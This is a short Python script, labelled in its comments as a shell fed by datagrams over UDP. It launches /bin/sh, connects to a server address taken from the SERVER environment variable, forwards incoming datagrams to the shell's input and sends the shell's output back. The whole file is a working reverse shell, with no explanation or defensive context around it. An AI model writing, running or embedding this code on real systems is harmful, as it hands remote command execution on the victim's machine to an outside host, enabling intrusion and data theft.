# what: a shell behind pipes, fed with datagrams
# server: udp
import os, socket, subprocess, threading

host, port = os.environ["SERVER"].split(":")
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
print("begun", flush=True)
s = socket.socket(type=socket.SOCK_DGRAM)
s.connect((host, int(port)))
s.send(b"here\n")

def inward():
    while data := s.recv(1024):
        os.write(p.stdin.fileno(), data)

threading.Thread(target=inward, daemon=True).start()
while data := os.read(p.stdout.fileno(), 1024):
    s.send(data)
print("done")
